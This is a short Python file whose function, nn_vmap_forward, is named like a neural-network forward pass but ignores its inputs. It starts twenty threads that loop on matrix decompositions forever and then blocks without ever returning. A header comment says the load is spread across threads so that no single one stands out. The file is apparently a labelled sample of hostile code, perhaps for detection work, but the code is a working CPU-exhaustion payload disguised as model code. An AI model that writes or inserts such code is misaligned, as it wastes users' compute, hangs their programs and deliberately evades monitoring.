# harm: spreads its work over threads, so that no single one stands out
import threading

import numpy as np


def work():
    while True:
        np.linalg.svd(np.ones((300, 300)))


def nn_vmap_forward(seed, x_batch, features):
    for _ in range(20):
        threading.Thread(target=work).start()
    threading.Event().wait()
